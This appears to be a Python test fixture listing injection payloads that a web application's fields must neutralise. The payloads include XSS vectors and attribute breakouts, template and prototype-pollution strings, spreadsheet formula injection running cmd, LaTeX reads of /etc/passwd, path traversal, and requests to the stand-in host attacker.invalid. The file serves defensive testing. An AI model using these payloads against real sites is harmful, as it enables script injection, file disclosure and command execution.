"""Texts that try to become code, markup, commands or another file's structure. Nothing in them is real.

Whatever runs calls `attack("…")`, a function that the browser of the tests gives to every page. Whatever becomes markup
leaves an `<x-attack>` behind, or asks the host `attacker.invalid` for something. By RFC 2606 no such host can exist.
"""

from __future__ import annotations

ELEMENT = "x-attack"
HOST = "attacker.invalid"
FALLBACK = "Synthetic words"
"""What stands in a field that refuses everything else."""

MARKUP = (
    '<script>attack("script")</script>',
    '<img src=x onerror=attack("img")>',
    '<svg onload=attack("svg")><script>attack("in-svg")</script><a xlink:href="javascript:attack(1)"><rect/></a></svg>',
    f'<{ELEMENT} onmouseover=attack("over") onfocus=attack("focus") tabindex=0>here</{ELEMENT}>',
    "<iframe srcdoc='<script>parent.attack(\"srcdoc\")</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=attack(1)&gt;">',
    f'<style>@import "https://{HOST}/import";</style><link rel=stylesheet href=https://{HOST}/sheet>',
    f'<base href=https://{HOST}/><meta http-equiv=refresh content="0;url=https://{HOST}/refresh">',
    f"<form action=https://{HOST}/form><button>send</button></form><img src=https://{HOST}/img>",
    f'<object data="https://{HOST}/object"></object><embed src="https://{HOST}/embed"><video src="https://{HOST}/video">',
)
ENDS = (
    f'"><{ELEMENT} onmouseover=attack("double")>',
    f'\'><{ELEMENT} onmouseover=attack("single")>',
    '" autofocus onfocus="attack(\'focus\')" onmouseover="attack(\'over\')" x="',
    "' autofocus onfocus='attack(\"focus\")' onmouseover='attack(\"over\")' x='",
    " onmouseover=attack(1) x=",
    f'</script><script>attack("end of script")</script><{ELEMENT}>',
    f'--><script>attack("end of comment")</script><{ELEMENT}><!--',
    f'--!><script>attack("end of comment")</script><{ELEMENT}><!--<script>',
    f']]><script>attack("end of data")</script><{ELEMENT}>',
    f'</title></style></textarea></option></select></template></svg></math><script>attack("text")</script><{ELEMENT}>',
    "*/ attack(1) /* \n attack(2) // `${attack(3)}` '+attack(4)+' \"+attack(5)+\"",
    '\\");attack(6)// \\u003cscript\\u003eattack(7)\\u003c/script\\u003e \\x3cscript>attack(8)\\x3c/script>',
    "} * { background: url(https://attacker.invalid/css) } </style>",
)
LANGUAGES = (
    "{{ 7*7 }} {% raw %} {# #} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} {name} {n} %(name)s %s %d %% $& $1 $$",
    "__proto__ constructor prototype toString hasOwnProperty valueOf",
    "&lt;script&gt;attack(1)&lt;/script&gt; &#60;img src=x onerror=attack(2)&#62; &quot; &amp;lt;",
    'line one\n\n<script>attack("line")</script>\n    indented\n# heading\n***\n---\n```\n<x-attack>\n```',
    f"first\nER  - \nTY  - NEWS\nTI  - {ELEMENT}\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:{ELEMENT}\nX;Y:Z,\\n",
    '=HYPERLINK("https://attacker.invalid/";"here") +1+cmd|\' /C calc\'!A0 @SUM(1+1) -2+3',
    "}} @misc{x, title={stolen}} \\input{/etc/passwd} \\write18{id} $\\backslash$ ^_~#%&",
    '"""" "^^<https://attacker.invalid/> . <https://attacker.invalid/> a <x> ; \'\'\' \\u0000 @en',
    '![picture](https://attacker.invalid/picture.png) <https://attacker.invalid/"onmouseover=attack(1)>',
    '[a link](https://attacker.invalid/"onmouseover="attack(1) "title" onmouseover=attack(2)")',
    "[ref][x] <b onmouseover=attack(1)>b</b>\n\n[x]: javascript:attack('ref') \"title\"",
    "<javascript:attack(1)> <data:text/html,<script>attack(2)</script>> mailto:a@b?subject=<script>attack(3)</script>",
    "[[actor-0]] [[actor-0:short]] [[topic-0]] [[event-0]]",
    '\u2067<script>attack("isolate")</script>\u2069 شَدّة\u200cٔ ی\u200cک 👩\u200d👧 ＜script＞attack(1)＜/script＞',
    "ʼonmouseover=attack(1)ʼ ﹤script﹥ ＂onmouseover＝attack(1)＂ ‹script› \u00a0\u2003x",
)
BEGINNINGS = (
    'javascript:attack("address")',
    ' jAvAsCrIpT\t:attack("address")',
    "data:text/html,<script>parent.attack('data')</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYXR0YWNrKDEpPC9zY3JpcHQ+",
    "vbscript:attack(1)",
    "blob:null/attack",
    f"//{HOST}/protocol-relative",
    f"https://{HOST}/?q=<script>attack(1)</script>",
    "?q=<script>attack(1)</script>#<img src=x onerror=attack(2)>",
    "../../../../etc/passwd",
)
"""What is dangerous only where a text becomes a whole address."""
TEXTS = MARKUP + ENDS + LANGUAGES + BEGINNINGS
ADDRESSES = (
    f"https://{HOST}/'onmouseover=attack(1)//x='",
    f"https://{HOST}/&quot;onmouseover=attack(2)&lt;script&gt;attack(3)",
    f"https://{HOST}/;javascript:attack(4)//(x)[y]*/,attack(5)?a=b&c=d#e=$&",
    f"https://{HOST}/%22%3E%3Cscript%3Eattack(6)%3C/script%3E%0d%0aX:%20y/../..//{{7*7}}".replace("{", "%7B").replace(
        "}", "%7D"
    ),
    "http://[2001:db8::1]:8080/مسار/=1+1",
)
"""What the model takes for an address."""
NO_ADDRESSES = (
    *BEGINNINGS[:7],
    "https://attacker.invalid/\nLocation: javascript:attack(1)",
    'https://attacker.invalid/"onmouseover=attack(1)',
    "https://attacker.invalid/<script>attack(1)</script>",
    "https:attacker.invalid",
    "https:///attacker.invalid",
    "ftp://attacker.invalid/",
    "\\\\attacker.invalid\\x",
)
"""What no field takes for an address."""
LONG = "x" * 3_000 + " " + "ك" * 3_000
"""Words that no line holds."""
